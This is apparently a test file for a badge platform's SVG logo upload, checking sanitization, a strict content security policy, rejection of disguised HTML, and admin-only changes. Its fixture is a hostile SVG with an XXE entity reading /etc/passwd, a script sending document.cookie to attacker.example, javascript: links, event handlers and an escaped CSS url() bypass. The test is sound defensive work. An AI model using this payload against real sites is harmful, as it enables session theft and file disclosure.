// Issue 14: administrators upload the institution's logo, which every visitor's browser then loads from our own
// origin and which badges point at. An SVG is a document that can run script and fetch other files, so what is
// stored must be the sanitizer's rewrite, and what is served must be unable to run anything even if a hole is
// found in the sanitizer. Only administrators may change the logo, the profile, or the signing key.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { BrowserSession } from '../support/browser-session.ts';
import { aStaffMember } from '../support/builders.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { testBackend } from '../support/test-database.ts';
import { multipartFile } from '../support/uploads.ts';

const hostile = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="steal()">
  <script type="text/javascript">fetch('https://attacker.example/?c=' + document.cookie)</script>
  <a xlink:href="javascript:steal()"><circle r="4"/></a>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example"/></foreignObject>
  <use href="https://attacker.example/sprite.svg#icon"/>
  <image xlink:href="https://attacker.example/pixel.png" width="1" height="1"/>
  <style>@import url(https://attacker.example/a.css); circle { fill: url(https://attacker.example/f) }</style>
  <set attributeName="href" to="javascript:steal()"/>
  <rect width="4" height="4" style="fill: \\75 rl(https://attacker.example/escaped)" onclick="steal()"/>
  <path d="M0 0h4v4z" fill="#0b4f6c"/>
</svg>`;

describe(`logo uploads cannot carry script or reach other sites, on ${testBackend}`, () => {
  let app: TestApp;
  let admin: BrowserSession;

  const upload = async (browser: BrowserSession, content: string) => {
    const { payload, contentType } = multipartFile('file', 'logo.svg', 'image/svg+xml', Buffer.from(content));
    const cookie = [...browser.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const token = encodeURIComponent(await browser.csrfToken());
    return app.http.inject({
      method: 'POST',
      url: `/admin/institution/logo?_csrf=${token}`,
      payload,
      headers: { 'content-type': contentType, cookie },
    });
  };

  before(async () => {
    app = await startTestApp({ runJobs: false });
    admin = await (await aStaffMember(app, 'admin')).signIn();
    const saved = await admin.postForm('/admin/institution', {
      name: 'Harbour Institute',
      shortName: 'HI',
      url: 'https://harbour.example',
      email: 'badges@harbour.example',
      timeZone: 'Europe/Dublin',
      academicYearStartMonth: '9',
      primaryColour: '#0b4f6c',
      accentColour: '#e0a526',
      defaultFee: '10',
      currency: 'EUR',
    });
    assert.equal(saved.statusCode, 303);
  });
  after(() => app.close());

  test('the stored SVG is the sanitizer’s rewrite: no script, handler, foreign content or outside reference', async () => {
    assert.equal((await upload(admin, hostile)).statusCode, 303);
    const sha = (await app.services.institution.get()).logo_sha256;
    const row = await app.database.db
      .selectFrom('institution_logos')
      .select(['content', 'content_type'])
      .where('sha256', '=', sha ?? '')
      .executeTakeFirstOrThrow();
    const stored = Buffer.from(row.content).toString('utf8');
    assert.equal(row.content_type, 'image/svg+xml');
    assert.doesNotMatch(
      stored,
      /script|steal|on[a-z]+=|foreignObject|iframe|attacker|passwd|ENTITY|@import|<set/i,
    );
    assert.match(stored, /<path d="M0 0h4v4z" fill="#0b4f6c"\/>/);
  });

  test('a logo is served with a policy that forbids scripts and outside loads, and is never sniffed', async () => {
    await upload(admin, hostile);
    const sha = (await app.services.institution.get()).logo_sha256;
    for (const url of ['/institution/logo', `/institution/logo/${sha}`]) {
      const served = await app.http.inject({ url });
      assert.equal(served.statusCode, 200, url);
      assert.equal(served.headers['content-type'], 'image/svg+xml', url);
      assert.equal(
        served.headers['content-security-policy'],
        "default-src 'none'; style-src 'unsafe-inline'",
        url,
      );
      assert.equal(served.headers['x-content-type-options'], 'nosniff', url);
    }
  });

  test('an upload that only claims to be an image is refused, whatever its name and type say', async () => {
    const html = await upload(admin, '<html><body><script>steal()</script></body></html>');
    assert.equal(html.statusCode, 422);
    assert.match(html.body, /not an SVG image/);
  });

  test('people other than administrators can change neither the logo, nor the profile, nor the signing key', async () => {
    const keysBefore = (await app.services.credentials.signingKeys()).length;
    for (const role of ['credentials_office', 'registrar', 'program_lead', 'learner'] as const) {
      const browser = await (await aStaffMember(app, role)).signIn();
      assert.equal(
        (await upload(browser, '<svg xmlns="http://www.w3.org/2000/svg"/>')).statusCode,
        403,
        role,
      );
      assert.equal(
        (await browser.postForm('/admin/institution', { name: 'Hijacked' })).statusCode,
        403,
        role,
      );
      assert.equal((await browser.postForm('/admin/institution/keys/rotate', {})).statusCode, 403, role);
      const put = await app.http.inject({
        method: 'PUT',
        url: '/api/institution',
        payload: { name: 'Hijacked' },
        headers: { ...(await browser.apiHeaders()), accept: 'application/json' },
      });
      assert.equal(put.statusCode, 403, role);
    }
    assert.equal((await app.services.institution.get()).name, 'Harbour Institute');
    assert.equal((await app.services.credentials.signingKeys()).length, keysBefore);
  });
});
